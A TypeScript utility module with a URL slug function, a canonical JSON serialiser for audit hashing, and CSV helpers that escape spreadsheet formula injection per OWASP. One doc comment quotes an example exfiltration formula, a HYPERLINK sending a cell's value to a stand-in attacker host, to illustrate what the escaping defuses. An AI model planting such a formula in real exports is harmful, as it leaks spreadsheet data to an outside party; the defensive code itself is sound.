/**
 * Turns a title into a readable URL segment: lower case, ASCII, words joined by hyphens.
 * Diacritics are stripped (NFD) so "Fietsenstalling Oosterpark" and "café" both stay readable.
 */
export const slugify = (text: string): string =>
  text
    .normalize('NFD')
    .replace(/[\u0300-\u036f]/g, '')
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-+|-+$/g, '')
    .slice(0, 80)
    .replace(/-+$/g, '');

/**
 * Canonical JSON: object keys sorted at every depth, no whitespace. The audit chain hashes this
 * form, so the same event always yields the same bytes whatever order its fields were built in.
 */
export const canonicalJson = (value: unknown): string => JSON.stringify(sortKeys(value));

const sortKeys = (value: unknown): unknown => {
  if (Array.isArray(value)) return value.map(sortKeys);
  if (value !== null && typeof value === 'object' && !(value instanceof Date)) {
    const out: Record<string, unknown> = {};
    for (const key of Object.keys(value).sort()) {
      const v = (value as Record<string, unknown>)[key];
      if (v !== undefined) out[key] = sortKeys(v);
    }
    return out;
  }
  return value;
};

// OWASP "CSV injection": a spreadsheet runs a cell starting with one of these as a formula.
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A text cell of a CSV export that a spreadsheet shows as text and never runs as a formula: a
 * value starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP), so
 * `=HYPERLINK("http://evil.example/?x="&A1,"klik")` stays the text it was. For text cells only: a
 * number cell (`-5`) must stay a number.
 */
export const csvTextCell = (value: string): string => (FORMULA_START.test(value) ? `'${value}` : value);

/** The value of a text cell written by `csvTextCell`, as it was typed: an import reads its own export back unchanged. */
export const csvTextValue = (cell: string): string => (cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell);
